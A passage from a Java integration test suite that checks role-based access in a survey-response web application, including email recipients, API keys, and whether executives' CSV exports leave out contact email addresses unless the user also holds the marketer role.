        assertEquals(200, toMe.statusCode(), toMe.body());
        String allowed = run + "-qa@acme.example";
        HttpResponse<String> toAllowed = doorsApiKey(admin, "MARKETER").sendJson("POST", test, "{\"to\":\"" + allowed + "\"}");
        assertEquals(200, toAllowed.statusCode(), toAllowed.body());

        long deadline = System.currentTimeMillis() + 15_000;
        while (Mailbox.to(SMTP, run).size() < 2 && System.currentTimeMillis() < deadline) {
            Thread.sleep(100);
        }
        List<String> recipients = Mailbox.to(SMTP, run).stream().map(Mailbox::recipient)
                .map(r -> r.toLowerCase(Locale.ROOT)).sorted().toList();
        assertEquals(List.of(own, allowed).stream().sorted().toList(), recipients);
    }

    @Test
    void anExecutivesExportsCarryNoContactEmailUnlessTheyAreAlsoMarketer() throws Exception {
        String run = Deployments.unique("doors-exec");
        WebClient admin = signedInDoorsAdmin();
        WebClient marketerKey = doorsApiKey(admin, "MARKETER");
        String email = run + "@exemple.fr";
        String lastName = "Nobecourt" + run.replaceAll("[^0-9]", "");
        HttpResponse<String> contact = marketerKey.sendJson("POST", "api/contacts", "{\"email\":\"" + email
                + "\",\"firstName\":\"Anais\",\"lastName\":\"" + lastName + "\"}");
        assertEquals(201, contact.statusCode(), contact.body());
        HttpResponse<String> response = marketerKey.sendJson("POST", "api/responses", "{\"email\":\"" + email
                + "\",\"score\":4,\"comment\":\"Trop lent " + run + "\",\"contactConsent\":true,\"respondedAt\":\""
                + Instant.now().minusSeconds(60) + "\"}");
        assertEquals(201, response.statusCode(), response.body());
        String today = LocalDate.now(REPORT_ZONE).toString();
        String export = "api/responses/export.csv?from=" + LocalDate.now(REPORT_ZONE).minusDays(1) + "&to=" + today;

        WebClient executive = doorsUser(admin, null, "EXECUTIVE");
        HttpResponse<String> executives = executive.get(export);
        assertEquals(200, executives.statusCode(), executives.body());
        assertFalse(executives.body().contains("contact_email"), executives.body());
        assertTrue(executives.body().contains("Anais " + lastName), "the name stays: " + executives.body());
        assertFalse(executives.body().contains(email), executives.body());
        String inbox = executive.get("api/responses?q=" + run).body();
        assertTrue(inbox.contains(lastName) && !inbox.contains(email), inbox);
        HttpResponse<String> byKey = doorsApiKey(admin, "EXECUTIVE").get(export);
        assertTrue(byKey.body().contains(lastName) && !byKey.body().contains(email), byKey.body());

        WebClient both = doorsUser(admin, null, "MARKETER", "EXECUTIVE");
        HttpResponse<String> marketers = both.get(export);
        assertEquals(200, marketers.statusCode());
        assertTrue(marketers.body().contains("contact_email") && marketers.body().contains(email), marketers.body());
        assertTrue(both.get("api/responses?q=" + run).body().contains(email));
    }

    private WebClient signedInDoorsAdmin() {
        WebClient admin = new WebClient(base);
        assertFalse(admin.login(Deployments.adminUsername(), Deployments.adminPassword()).contains("failed"));
        return admin;
    }

    /** A user of these roles (and this address, if any), signed in with the temporary password replaced. */
    private WebClient doorsUser(WebClient admin, String email, String... roles) {
        String name = Deployments.unique("doors");
        String roleList = Arrays.stream(roles).map(r -> "\"" + r + "\"").collect(Collectors.joining(","));
        HttpResponse<String> created = admin.sendJson("POST", "api/users", "{\"username\":\"" + name + "\",\"roles\":[" + roleList
                + "],\"password\":\"Temporary-pass-1\"" + (email == null ? "" : ",\"email\":\"" + email + "\"") + "}");
        assertEquals(201, created.statusCode(), created.body());
        WebClient user = new WebClient(base);
        assertTrue(user.login(name, "Temporary-pass-1").endsWith("/account/password.xhtml"));
        assertEquals(302, user.changePassword("Temporary-pass-1", "Chosen-pass-42").statusCode());
        return user;
    }

    private WebClient doorsApiKey(WebClient admin, String role) {
        return new WebClient(base).withHeader("Authorization", "Bearer " + doorsKey(admin, role));
    }

    private String doorsKey(WebClient admin, String role) {
        HttpResponse<String> issued = admin.sendJson("POST", "api/api-keys",
                "{\"name\":\"" + Deployments.unique("doors") + "\",\"role\":\"" + role + "\"}");
        assertEquals(201, issued.statusCode(), issued.body());
        return Json.string(Json.object(issued), "secret");
    }



    // ---------------------------------------------------------------------------------------------
    // End of sections.
    // ---------------------------------------------------------------------------------------------
}
